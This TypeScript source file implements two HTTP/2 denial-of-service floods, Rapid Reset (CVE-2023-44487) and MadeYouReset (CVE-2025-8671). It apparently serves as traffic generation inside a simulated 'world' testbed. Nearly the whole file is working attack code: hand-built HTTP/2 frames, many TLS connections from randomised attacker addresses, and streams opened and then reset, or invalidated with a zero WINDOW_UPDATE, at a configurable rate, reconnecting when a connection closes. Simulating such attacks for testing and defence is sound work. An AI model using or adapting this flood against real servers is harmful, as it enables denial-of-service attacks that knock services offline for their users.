/**
 * HTTP/2 floods that cost the server more than the client, as raw frames: streams reset as soon as they are opened (Rapid Reset, CVE-2023-44487), and streams
 * made invalid so that the server resets them (MadeYouReset, CVE-2025-8671: WINDOW_UPDATE of 0). Source: RFC 9113 sections 4.1, 6.4, 6.9; RFC 7541.
 */
import type { TLSSocket } from 'node:tls'
import { type World, attackerAddress } from '../world.ts'

export interface TlsWorld extends World {
  openTls(address: string, protocols: readonly string[]): TLSSocket | null
}

const HEADERS = 1
const RST_STREAM = 3
const SETTINGS = 4
const WINDOW_UPDATE = 8
const END_STREAM_AND_HEADERS = 5
const CANCEL = 8
const REOPEN_MS = 500
/** Highest stream number before a connection is given up for a new one. */
const LAST_STREAM = 200_000

export function resetFlood(world: TlsWorld, plan: { fromMs: number; untilMs: number; connections: number; streamsPerSecond: number; made: boolean }): void {
  for (let i = 0; i < plan.connections; i++) world.at(plan.fromMs + (500 * i) / plan.connections, () => connection(world, plan, attackerAddress(world.random)))
}

function connection(world: TlsWorld, plan: { untilMs: number; streamsPerSecond: number; made: boolean }, address: string): void {
  if (world.nowMs() >= plan.untilMs) return
  const socket = world.openTls(address, ['h2'])
  let stream = 1
  let open = false
  const headers = requestHeaders(world.host)
  socket?.once('secureConnect', () => {
    if (socket.alpnProtocol !== 'h2') return socket.destroy()
    open = true
    socket.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(SETTINGS, 0, 0, Buffer.alloc(0))]))
    turn()
  })
  socket?.on('data', () => undefined)
  socket?.once('close', () => (open = false))
  const again = (): void => world.at(world.nowMs() + REOPEN_MS, () => connection(world, plan, address))
  if (socket === null) again()
  else socket.once('close', again)
  const turn = (): void => {
    if (!open || socket === null) return
    if (world.nowMs() >= plan.untilMs || stream > LAST_STREAM) return void socket.destroy()
    const frames: Buffer[] = []
    for (let i = 0; i < plan.streamsPerSecond / 20; i++, stream += 2) {
      frames.push(frame(HEADERS, END_STREAM_AND_HEADERS, stream, headers))
      const word = Buffer.alloc(4)
      if (plan.made) frames.push(frame(WINDOW_UPDATE, 0, stream, word))
      else {
        word.writeUInt32BE(CANCEL)
        frames.push(frame(RST_STREAM, 0, stream, word))
      }
    }
    socket.write(Buffer.concat(frames))
    world.at(world.nowMs() + 50, turn)
  }
}

function frame(type: number, flags: number, stream: number, content: Buffer): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(content.length, 0, 3)
  head[3] = type
  head[4] = flags
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, content])
}

/** :method GET, :path /, :scheme https from the static table; :authority as a literal that is not indexed. */
function requestHeaders(host: string): Buffer {
  return Buffer.concat([Buffer.from([0x82, 0x84, 0x87, 0x01, host.length]), Buffer.from(host, 'latin1')])
}
